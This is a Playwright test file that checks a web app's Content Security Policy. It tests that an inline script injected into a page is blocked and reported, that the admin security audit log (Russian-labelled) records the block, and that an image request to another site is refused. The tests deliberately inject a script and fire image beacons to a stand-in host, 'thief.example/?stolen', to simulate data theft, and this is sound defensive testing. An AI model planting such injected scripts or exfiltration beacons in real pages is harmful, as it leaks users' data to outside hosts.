import { expect, test } from 'playwright/test'
import { startAs } from '../support/session.ts'

test('a script that was smuggled into a page does not run, and admins read of it', async ({
  page,
}) => {
  const reported = page.waitForResponse((response) => response.url().endsWith('/csp-report'))
  await page.goto('/contacts')
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.smuggled = true'
    document.body.append(script)
    const image = new Image()
    image.src = 'https://thief.example/?stolen'
  })
  expect((await reported).status()).toBe(200)
  expect(await page.evaluate(() => Reflect.get(window, 'smuggled'))).toBeUndefined()

  await startAs(page, 'admin')
  await page.goto('/admin?tab=audit&log=security')
  await page.getByText(/^Заблокировано браузерами: \d/).click()
  await expect(page.getByText('Скрипт: прямо в коде страницы').first()).toBeVisible()
})

test('a page loads no picture of another site', async ({ page }) => {
  const asked: string[] = []
  await page.route('https://thief.example/**', (route) => {
    asked.push(route.request().url())
    return route.abort()
  })
  await page.goto('/')
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))
        new Image().src = 'https://thief.example/?stolen'
      }),
  )
  expect(blocked).toBe('img-src')
  expect(asked).toEqual([])
})
